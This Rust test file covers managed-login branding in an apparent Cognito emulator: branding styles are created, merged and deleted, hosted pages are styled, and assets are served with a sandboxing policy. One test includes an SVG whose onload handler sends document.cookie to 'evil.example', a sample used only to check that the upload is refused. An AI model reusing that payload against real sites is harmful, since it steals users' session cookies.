//! How an app client's pages look, through the AWS SDK: managed-login branding styles, the
//! classic UI customization and terms documents (`classic.rs`), their refusals, and the
//! hosted pages and files they make.

mod classic;

use aws_sdk_cognitoidentityprovider::Client;
use aws_sdk_cognitoidentityprovider::error::ProvideErrorMetadata;
use aws_sdk_cognitoidentityprovider::primitives::Blob;
use aws_sdk_cognitoidentityprovider::types::{
    AssetCategoryType, AssetExtensionType, AssetType, ColorSchemeModeType,
};
use serde_json::json;

use crate::cognito_admin::admin;
use crate::helpers::spawn_app;
use crate::passkeys::{to_document, to_json};

/// A 1×1 PNG.
pub(super) const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4,
    0x89, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0xF8, 0xCF, 0xC0, 0xF0,
    0x1F, 0x00, 0x05, 0x00, 0x01, 0xFF, 0x89, 0x99, 0x3D, 0x1D, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45,
    0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
];

/// A new pool with two app clients: their ids.
pub(super) async fn pool_with_clients(sdk: &Client) -> (String, String, String) {
    let pool = sdk
        .create_user_pool()
        .pool_name("Branded")
        .send()
        .await
        .unwrap()
        .user_pool()
        .unwrap()
        .id()
        .unwrap()
        .to_string();
    let mut clients = Vec::new();
    for name in ["shop", "plain"] {
        let client = sdk
            .create_user_pool_client()
            .user_pool_id(&pool)
            .client_name(name)
            .send()
            .await
            .unwrap();
        clients.push(
            client
                .user_pool_client()
                .unwrap()
                .client_id()
                .unwrap()
                .to_string(),
        );
    }
    (pool, clients.remove(0), clients.remove(0))
}

fn asset(
    category: AssetCategoryType,
    mode: ColorSchemeModeType,
    ext: AssetExtensionType,
    bytes: &[u8],
) -> AssetType {
    AssetType::builder()
        .category(category)
        .color_mode(mode)
        .extension(ext)
        .bytes(Blob::new(bytes))
        .build()
        .unwrap()
}

fn settings() -> serde_json::Value {
    json!({
        "categories": {"global": {"colorSchemeMode": "LIGHT"}},
        "components": {
            "primaryButton": {"lightMode": {"defaults": {"backgroundColor": "0a7d3eff", "textColor": "ffffffff"}}},
            "pageBackground": {"lightMode": {"color": "fdf6e3ff"}}
        },
        "editorOnly": {"kept": true}
    })
}

/// The href of the page's branding stylesheet, if it has one.
pub(super) fn brand_stylesheet(html: &str) -> Option<String> {
    let at = html.find("data-testid=\"brand-style\"")?;
    let tag_start = html[..at].rfind("<link")?;
    let tag = &html[tag_start..at + 30];
    let href = tag.split("href=\"").nth(1)?.split('"').next()?;
    Some(href.replace("&amp;", "&"))
}

#[tokio::test]
async fn a_branding_style_is_created_described_updated_and_deleted() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, _) = pool_with_clients(&sdk).await;

    let created = sdk
        .create_managed_login_branding()
        .user_pool_id(&pool)
        .client_id(&shop)
        .settings(to_document(&settings()))
        .assets(asset(
            AssetCategoryType::FormLogo,
            ColorSchemeModeType::Light,
            AssetExtensionType::Png,
            PNG,
        ))
        .send()
        .await
        .expect("a style is created")
        .managed_login_branding
        .unwrap();
    let id = created.managed_login_branding_id().unwrap().to_string();
    assert_eq!(created.user_pool_id(), Some(pool.as_str()));
    assert!(!created.use_cognito_provided_values());
    assert_eq!(
        to_json(created.settings().unwrap())["editorOnly"],
        json!({"kept": true})
    );
    assert_eq!(created.assets().len(), 1);

    // One style a client.
    let again = sdk
        .create_managed_login_branding()
        .user_pool_id(&pool)
        .client_id(&shop)
        .use_cognito_provided_values(true)
        .send()
        .await
        .unwrap_err();
    assert_eq!(again.code(), Some("ManagedLoginBrandingExistsException"));

    let by_client = sdk
        .describe_managed_login_branding_by_client()
        .user_pool_id(&pool)
        .client_id(&shop)
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();
    assert_eq!(by_client.managed_login_branding_id(), Some(id.as_str()));
    assert_eq!(by_client.assets()[0].bytes().unwrap().as_ref(), PNG);

    // An update lays its settings over the stored ones and replaces the asset of its
    // category and mode only.
    let updated = sdk
        .update_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .settings(to_document(
            &json!({"components": {"pageBackground": {"lightMode": {"color": "112233ff"}}}}),
        ))
        .assets(asset(
            AssetCategoryType::PageHeaderLogo,
            ColorSchemeModeType::Dynamic,
            AssetExtensionType::Png,
            PNG,
        ))
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();
    let kept = to_json(updated.settings().unwrap());
    assert_eq!(
        kept["components"]["pageBackground"]["lightMode"]["color"],
        "112233ff"
    );
    assert_eq!(
        kept["components"]["primaryButton"]["lightMode"]["defaults"]["backgroundColor"],
        "0a7d3eff"
    );
    assert_eq!(updated.assets().len(), 2);

    // Merged, the description carries Cognate's defaults under the style's settings.
    let merged = sdk
        .describe_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .return_merged_resources(true)
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();
    let merged = to_json(merged.settings().unwrap());
    assert_eq!(
        merged["components"]["pageBackground"]["lightMode"]["color"],
        "112233ff"
    );
    assert!(merged["componentClasses"]["link"]["darkMode"]["defaults"]["textColor"].is_string());

    sdk.delete_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .send()
        .await
        .unwrap();
    let gone = sdk
        .describe_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .send()
        .await
        .unwrap_err();
    assert_eq!(gone.code(), Some("ResourceNotFoundException"));
    app.stop().await;
}

#[tokio::test]
async fn a_style_that_could_run_script_or_lies_about_its_files_is_refused() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, _) = pool_with_clients(&sdk).await;
    let create = || {
        sdk.create_managed_login_branding()
            .user_pool_id(&pool)
            .client_id(&shop)
    };

    let hostile_svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example/'+document.cookie)"><rect/></svg>"#;
    let refusals = [
        (
            create().assets(asset(
                AssetCategoryType::FormLogo,
                ColorSchemeModeType::Light,
                AssetExtensionType::Svg,
                hostile_svg,
            )),
            "could run script",
        ),
        (
            create().assets(asset(
                AssetCategoryType::FormLogo,
                ColorSchemeModeType::Light,
                AssetExtensionType::Jpeg,
                PNG,
            )),
            "not the JPEG",
        ),
        (
            create().assets(asset(
                AssetCategoryType::FormLogo,
                ColorSchemeModeType::Light,
                AssetExtensionType::Png,
                &[PNG, &vec![0; 1_000_000]].concat(),
            )),
            "larger than",
        ),
        (
            create()
                .assets(asset(
                    AssetCategoryType::FormLogo,
                    ColorSchemeModeType::Light,
                    AssetExtensionType::Png,
                    PNG,
                ))
                .assets(asset(
                    AssetCategoryType::FormLogo,
                    ColorSchemeModeType::Light,
                    AssetExtensionType::Png,
                    PNG,
                )),
            "Two assets",
        ),
        (
            create()
                .use_cognito_provided_values(true)
                .settings(to_document(&settings())),
            "UseCognitoProvidedValues",
        ),
        (
            create().settings(to_document(&json!(["not", "an", "object"]))),
            "JSON object",
        ),
    ];
    for (request, words) in refusals {
        let error = request.send().await.unwrap_err();
        assert_eq!(error.code(), Some("InvalidParameterException"), "{words}");
        assert!(
            error.message().unwrap().contains(words),
            "{:?} lacks {words}",
            error.message()
        );
    }
    // Nothing refused was kept: the client has no style.
    let none = sdk
        .describe_managed_login_branding_by_client()
        .user_pool_id(&pool)
        .client_id(&shop)
        .send()
        .await
        .unwrap_err();
    assert_eq!(none.code(), Some("ResourceNotFoundException"));

    // Another pool's client cannot be given a style through this pool.
    let (other_pool, _, _) = pool_with_clients(&sdk).await;
    let elsewhere = sdk
        .create_managed_login_branding()
        .user_pool_id(&other_pool)
        .client_id(&shop)
        .use_cognito_provided_values(true)
        .send()
        .await
        .unwrap_err();
    assert_eq!(elsewhere.code(), Some("ResourceNotFoundException"));
    app.stop().await;
}

#[tokio::test]
async fn a_branded_clients_pages_carry_its_look_from_the_first_byte_and_its_files_are_served() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, plain) = pool_with_clients(&sdk).await;
    let svg = br##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect width="4" height="4" fill="#0a7d3e"/></svg>"##;
    let style = sdk
        .create_managed_login_branding()
        .user_pool_id(&pool)
        .client_id(&shop)
        .settings(to_document(&settings()))
        .assets(asset(
            AssetCategoryType::FormLogo,
            ColorSchemeModeType::Light,
            AssetExtensionType::Png,
            PNG,
        ))
        .assets(asset(
            AssetCategoryType::FaviconSvg,
            ColorSchemeModeType::Light,
            AssetExtensionType::Svg,
            svg,
        ))
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();

    let page = app
        .get(&format!("/login?client_id={shop}"))
        .await
        .text()
        .await
        .unwrap();
    let href = brand_stylesheet(&page).expect("the branded page links its stylesheet");
    assert!(
        page.contains("type=\"image/svg+xml\" href=\"/branding/"),
        "the style's favicon"
    );
    let plain_page = app
        .get(&format!("/login?client_id={plain}"))
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        brand_stylesheet(&plain_page),
        None,
        "an unbranded client looks as Cognate"
    );

    let sheet = app.get(&href).await;
    assert_eq!(sheet.headers()["content-type"], "text/css; charset=utf-8");
    assert!(
        sheet.headers()["cache-control"]
            .to_str()
            .unwrap()
            .contains("immutable")
    );
    let css = sheet.text().await.unwrap();
    assert!(css.contains("color-scheme:light;"), "{css}");
    assert!(css.contains("--button:#0a7d3eff;"), "{css}");
    assert!(css.contains("--paper:#fdf6e3ff;"), "{css}");
    let logo = css
        .split("url(\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the form logo")
        .to_string();

    let served = app.get(&logo).await;
    assert_eq!(served.headers()["content-type"], "image/png");
    assert_eq!(served.bytes().await.unwrap().as_ref(), PNG);
    let svg_url = format!(
        "/branding/{}/FAVICON_SVG/LIGHT",
        style.managed_login_branding_id().unwrap()
    );
    let served = app.get(&svg_url).await;
    assert_eq!(served.headers()["content-type"], "image/svg+xml");
    let policy = served.headers()["content-security-policy"]
        .to_str()
        .unwrap();
    assert!(
        policy.contains("default-src 'none'") && policy.contains("sandbox"),
        "{policy}"
    );
    assert_eq!(
        app.get("/branding/no-such-style/FORM_LOGO/LIGHT")
            .await
            .status(),
        404
    );
    app.stop().await;
}
